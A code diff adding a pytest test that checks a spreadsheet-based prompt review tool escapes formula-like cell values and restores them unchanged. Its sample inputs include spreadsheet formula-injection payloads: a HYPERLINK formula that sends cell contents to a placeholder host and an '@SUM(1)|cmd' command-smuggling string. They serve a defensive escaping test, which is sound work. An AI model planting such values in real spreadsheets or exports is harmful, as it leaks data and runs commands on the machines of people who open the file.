@@ -97,6 +97,20 @@ def test_what_a_spreadsheet_does_to_white_space_changes_no_text(project: Path) -
     assert list(review(EDITION)) == [f"{REVIEW}: 1 proposed, 1 accept"]
 
 
+def test_no_spreadsheet_computes_what_a_model_proposes_and_texts_come_back_as_they_were(project: Path) -> None:
+    texts = ('=HYPERLINK("http://x"&A1)', "@SUM(1)|cmd", "'-7 cats", "'quoted' cats")
+    put(*(proposed("style", n, text) for n, text in enumerate(texts)))
+    list(review(EDITION))
+    assert [row["prompt"] for row in sheet()] == [f"'{text}" for text in texts[:3]] + [texts[3]]
+    fill_in({row["id"]: REWRITE | {"new_prompt": "-1 cat", "remark": "+"} for row in sheet()})
+    for _ in range(2):  # what a person entered is guarded by the first
+        assert list(review(EDITION)) == [f"{REVIEW}: 4 proposed, 4 rewrite"]
+    assert {row["new_prompt"] for row in sheet()} == {"'-1 cat"}
+    assert [(row["prompt"], row["new_prompt"], row["remark"]) for _, row in read_review(REVIEW)] == [
+        (text, "-1 cat", "+") for text in texts
+    ]
+
+
 @pytest.mark.parametrize(
     ("entered", "words"),
     [
